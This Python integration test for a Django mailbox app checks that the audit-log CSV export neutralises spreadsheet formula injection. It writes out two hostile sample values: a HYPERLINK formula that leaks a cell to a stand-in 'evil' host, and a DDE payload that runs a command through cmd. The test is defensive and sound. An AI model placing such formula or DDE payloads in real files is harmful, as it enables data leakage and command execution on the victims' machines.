"""The audit export opens safely in a spreadsheet, whatever readers and senders put in it."""

from __future__ import annotations

import csv
import io
import os
import smtplib
from email.message import EmailMessage

import pytest
from django.urls import reverse

from mailboxes.models import Mailbox, User
from mailboxes.operator.imap import imap_session
from tests.conftest import client_for
from tests.integration.helpers import in_folder, synced, uid_of, wait_until

pytestmark = [pytest.mark.integration, pytest.mark.django_db(transaction=True)]
KARIM = "karim.benali@hopital-c.mssante.test"
FORMULA_FOLDER = '=HYPERLINK("http:evil?leak="&A2;"voir")'  # no dot, no slash (folder syntax)
FORMULA_ID = "@SUM(1+1)*cmd|' /C calc'!A0"


def from_outside(mailbox: Mailbox, message_id: str) -> None:
    """A message whose sender chose its Message-ID (nothing checks its form)."""
    message = EmailMessage()
    message["From"] = "Quelqu'un <quelquun@operateur-a.mssante.test>"
    message["To"] = mailbox.address
    message["Subject"] = "Bonjour"
    message["Message-ID"] = message_id
    message.set_content("Bonjour")
    with smtplib.SMTP("127.0.0.1", int(os.environ["OPERATOR_MX_PORT"]), timeout=10) as smtp:
        smtp.send_message(message)
    wait_until(lambda: in_folder(mailbox, message_id))


def test_it_neutralises_formulas_in_the_exported_audit_trail(
    directory: dict[str, Mailbox], karim: User
) -> None:
    mailbox = directory[KARIM]
    from_outside(mailbox, FORMULA_ID)
    uid = uid_of(mailbox, FORMULA_ID)
    with imap_session(mailbox) as client:  # a folder any reader's other mail client can make
        client.create_folder(FORMULA_FOLDER)
        client.select_folder("INBOX")
        client.copy([uid], FORMULA_FOLDER)
    synced(mailbox)
    client = client_for(karim)
    conversation = reverse("mail-conversation", args=[mailbox.pk])
    assert client.get(conversation, {"thread": FORMULA_ID}).status_code == 200
    moved = uid_of(mailbox, FORMULA_ID, FORMULA_FOLDER)
    reader = reverse("mail-message", args=[mailbox.pk, moved])
    assert client.get(reader, {"folder": FORMULA_FOLDER}).status_code == 200
    export = client.get(reverse("admin-audit", args=[mailbox.pk]), {"export": "csv"})
    text = b"".join(export.streaming_content).decode().removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    targets = [row[5] for row in rows[1:]]
    assert f"'{FORMULA_ID}" in targets
    assert any(t.startswith(f"'{FORMULA_FOLDER}/{moved} ") for t in targets), targets
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
